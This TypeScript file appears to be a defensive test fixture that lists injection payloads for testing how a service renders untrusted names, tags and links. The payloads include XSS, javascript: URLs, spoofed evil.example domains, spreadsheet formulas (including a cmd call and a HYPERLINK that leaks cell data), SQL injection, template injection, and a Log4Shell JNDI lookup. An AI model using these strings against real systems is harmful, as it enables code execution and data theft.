/**
 * Texts that somebody could put into a title, a tag or a name to attack whoever looks at it. A payload that
 * can run calls `pwned`, so a test that defines it hears of every one that does.
 */
const scripts = [
  ['"', '>'],
  ["'", '>'],
  ['', ''],
  ['</textarea>', ''],
  ['</title>', ''],
  ['-->', '<!--'],
  [']]>', ''],
  ['</style>', ''],
].flatMap(([before = '', after = '']) => [
  `${before}${after}<script>pwned()</script>`,
  `${before}${after}<img src=x onerror=pwned()>`,
  `${before}${after}<svg onload=pwned()>`,
  `${before} onmouseover=pwned() autofocus onfocus=pwned() x=${before}`,
  `${before}${after}<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
]);

const elements = [
  '<body onload=pwned()>',
  '<details open ontoggle=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<form action="javascript:pwned()"><button>Sign in</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<style>@import "https://evil.example/a.css"</style>',
  '<a href="javascript:pwned()">details</a>',
  '<marquee onstart=pwned()>',
  '<template><script>pwned()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<input autofocus onfocus=pwned()>',
  '<dialog open>Your session has ended. <input type=password></dialog>',
  '<portal src="https://evil.example/">',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;img src=x onerror=pwned()&#62;',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '%3Cscript%3Epwned()%3C%2Fscript%3E',
  '\uFF1Cscript\uFF1Epwned()\uFF1C/script\uFF1E',
  '<scr\u0000ipt>pwned()</script>',
];

const schemes = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  ' javascript:pwned()',
  'java\tscript:pwned()',
  'java\nscript:pwned()',
  'javascript://docs.aws.amazon.com/%0Apwned()',
  'data:text/html,<script>opener.pwned()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
  'vbscript:pwned()',
  'blob:https://docs.aws.amazon.com/x',
  'file:///etc/passwd',
  'http://docs.aws.amazon.com/inspector/',
  '//docs.aws.amazon.com/inspector/',
  'https://evil.example/',
  'https://docs.aws.amazon.com.evil.example/',
  'https://docs.aws.amazon.com@evil.example/',
  'https://evil.example\\@docs.aws.amazon.com/',
  'https://evil.example#docs.aws.amazon.com/',
  'https://docs.aws.amazon.com:8443/',
  'https://xn--docs-aws-amazon-com.example/',
  'https://docs.aws.amazon.com\u002F\u2215evil.example/',
  'https://docs\u3002aws.amazon.com.evil\u3002example/',
  'https://notaws.amazon.com/',
];
const links = schemes.flatMap((address) => [address, `[Open the console](${address})`]);
const markdown = [
  '[a](https://aws.amazon.com/ "onmouseover=pwned()")',
  '[a][1]\n\n[1]: javascript:pwned()',
  '![a](https://evil.example/pixel.gif)',
  '<https://evil.example/>',
  '[https://aws.amazon.com/](https://evil.example/)',
  '[a](https://aws.amazon.com/)](javascript:pwned())',
  '[[a](https://evil.example/)](https://aws.amazon.com/)',
  '[<img src=x onerror=pwned()>](https://aws.amazon.com/)',
  `${'['.repeat(60)}x${']('.repeat(30)}https://aws.amazon.com/`,
  '| a | b |\n| --- | --- |\n| </td><script>pwned()</script> |',
  '```\n</code><script>pwned()</script>\n```',
  '# Heading\n---\n* [x] done',
];

const unseen = [
  'i-0123456789abcdef0\u202E',
  'prod\u202Etset',
  '\u2067gnp.exe\u2069',
  'web\u200Bprod',
  'web\u200Cprod',
  'web\u200Dprod',
  '\uFEFFweb-prod',
  'web\u2060prod',
  'web\u00ADprod',
  'web\u180Eprod',
  'web\u3164prod',
  'web\u{E0070}\u{E0072}prod',
  'pr\u043Ed',
  'a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(8),
  '\u200F\u200F\u200F',
  '\u2028line\u2029paragraph',
  'half \uD83D of an emoji',
  '\u061Cmark',
  '\u034Fjoiner',
];

const formulas = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"details")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  '\uFF0B1',
  "';=1+1",
];

const terminals = [
  '\u001B[31mred\u001B[0m',
  '\u001B]0;title\u0007',
  '\u001B[2J\u001B[H',
  '\u009B31m',
  'a\bb',
  '\u0007\u0007',
  '\u001B]8;;https://evil.example/\u0007link\u001B]8;;\u0007',
];

const databases = [
  "'; DROP TABLE runs; --",
  "' OR '1'='1",
  '" OR ""="',
  "admin'--",
  "1; ATTACH DATABASE '/tmp/x' AS x",
  "' UNION SELECT secret FROM users --",
  '%',
  '_',
  '*',
  '\\',
];

const templates = [
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '#{pwned()}',
  '<%= pwned() %>',
  '{%25 include x %25}',
  '$(pwned)',
  '`pwned`',
  '${jndi:ldap://evil.example/a}',
  '%s%s%s%n',
  '%{pwned()}',
];

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'then',
  'toJSON',
  'length',
  'undefined',
  'null',
  'NaN',
  'true',
  '0',
  '-1',
  '[object Object]',
  'key',
  'ref',
  'dangerouslySetInnerHTML',
];

/** Longer than any screen: one word, words, and lines; each as long as the service's model allows. */
const long = ['x'.repeat(20_000), 'word '.repeat(4000), 'line\n'.repeat(4000), '\u202E'.repeat(2000)];

/** More than two hundred payloads, no two the same. */
export const payloads: readonly string[] = [
  ...scripts,
  ...elements,
  ...links,
  ...markdown,
  ...unseen,
  ...formulas,
  ...terminals,
  ...databases,
  ...templates,
  ...names,
  ...long,
];
